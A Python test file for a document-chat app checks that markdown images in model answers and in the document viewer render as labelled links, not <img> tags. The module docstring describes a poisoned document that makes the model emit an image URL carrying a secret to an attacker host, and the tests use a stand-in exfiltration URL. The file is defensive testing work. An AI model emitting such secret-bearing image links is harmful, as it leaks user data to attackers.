"""The window renders model and document text without fetching anything from elsewhere.

A poisoned document can make the model write ``![x](http://attacker/?d=<secret>)``; an
``<img>`` would send the secret off the machine as soon as the answer shows. Here images
come out as links that say where they point (the browser test checks that nothing is
requested; these check what the window puts in the page).
"""

from __future__ import annotations

import re

from nicegui.testing import User

from app.container import Services
from tests.running import eventually
from tests.ui_parts import add_file, answer_shows, contents, documents, llm, settled, text_of
from ui.answer.markdown import render
from ui.library.viewer import open_document

FOREIGN = "http://127.0.0.1:9/?d=secret"


def foreign_images(html: str) -> list[str]:
    """The ``src`` of every ``<img>`` in ``html`` (none may point anywhere)."""
    return re.findall(r"<img\b[^>]*>", html, flags=re.IGNORECASE)


async def ask(user: User, text: str) -> None:
    user.find(marker="message-input").type(text)
    user.find(marker="message-input").trigger("keydown", {"key": "Enter"})


async def test_an_image_in_an_answer_is_a_link_naming_its_url(
    user: User, container: Services, page: None
) -> None:
    llm(container).enqueue(f"Here is the key [1]. ![x]({FOREIGN})")
    await user.open("/")
    await ask(user, "Where is the spare key?")
    await eventually(lambda: answer_shows(user, "image: x"), what="the answer")
    await user.should_see(marker="answer-actions")  # the final render, not a streamed one
    html = contents(user, "answer")[-1]
    assert foreign_images(html) == []
    assert f'href="{FOREIGN}"' in html and f'title="{FOREIGN}"' in html
    assert f"image: x ({FOREIGN})" in text_of(html)


async def test_an_image_in_a_markdown_document_is_a_link_in_the_viewer(
    user: User, container: Services, page: None
) -> None:
    text = f"# Plan\n\nThe plan is simple.\n\n![pixel]({FOREIGN})\n"
    await add_file(container, "plan.md", text.encode())
    await settled(container, "plan.md")
    await user.open("/")
    for snippet in ("The plan is simple.", ""):  # with the passage highlighted, and without
        with user:
            await open_document(documents(container), "plan.md", None, snippet)
        await user.should_see(marker="viewer-text")
        shown = contents(user, "viewer-text")[-1]
        assert foreign_images(shown) == []
        assert f"image: pixel ({FOREIGN})" in text_of(shown)


def test_images_never_render_as_img_wherever_they_sit() -> None:
    for markdown in (
        f"![x]({FOREIGN})",
        f"[![badge]({FOREIGN})](https://example.org/)",  # a linked image: no link in a link
        "![local](figure.png)",
        "![data](data:image/png;base64,iVBORw0KGgo=)",
        f"| a |\n|---|\n| ![cell]({FOREIGN}) |",
        f"- item ![li]({FOREIGN})",
    ):
        html = render(markdown)
        assert foreign_images(html) == [], markdown
        assert "image: " in text_of(html), markdown
    linked = render(f"[![badge]({FOREIGN})](https://example.org/)")
    assert linked.count("<a ") == 1 and f'title="{FOREIGN}"' in linked
    long = render("![big](data:image/png;base64," + "A" * 5000 + ")")
    assert len(text_of(long)) < 200  # shown cut; the title holds it whole
